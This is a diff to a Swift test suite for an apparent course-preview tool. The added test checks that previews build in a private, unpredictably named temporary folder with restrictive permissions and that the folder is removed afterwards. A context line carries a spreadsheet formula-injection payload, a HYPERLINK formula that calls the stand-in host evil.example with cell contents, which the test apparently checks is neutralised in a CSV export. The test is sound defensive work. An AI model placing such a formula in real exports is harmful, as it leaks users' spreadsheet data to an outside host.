@@ -120,3 +120,16 @@ func mode(_ path: String) throws -> Int {
     #expect(roster.status == 200, "\(roster.text)")
     #expect(roster.text.contains(",\"Ada;'=HYPERLINK(\"\"http://evil.example/\"\"&A1, \"\"x\"\")\",ada@example.org,"), "\(roster.text)")
 }
+
+@Test func previewBuildsInAPrivateFolderWithAnUnpredictableNameToo() throws {
+    let temporary = try TemporaryCourse(["keep": ""], name: "tmp")
+    let preview = try LecternProcess(["preview", sampleCourse("python-foundations").path, "--port", "0"],
+                                     environment: ["TMPDIR": temporary.url.path])
+    let made = try FileManager.default.contentsOfDirectory(atPath: temporary.url.path).filter { $0 != "keep" }
+    let folder = try #require(made.first)
+    #expect(made.count == 1 && folder.hasPrefix("lectern-preview-") && folder != "lectern-preview-\(preview.process.processIdentifier)", "\(made)")
+    #expect(try mode(temporary.url.appendingPathComponent(folder).path) == 0o700)
+    #expect(try preview.get("/python-foundations/index.html").status == 200)
+    _ = preview.stop()
+    #expect(try FileManager.default.contentsOfDirectory(atPath: temporary.url.path) == ["keep"])
+}
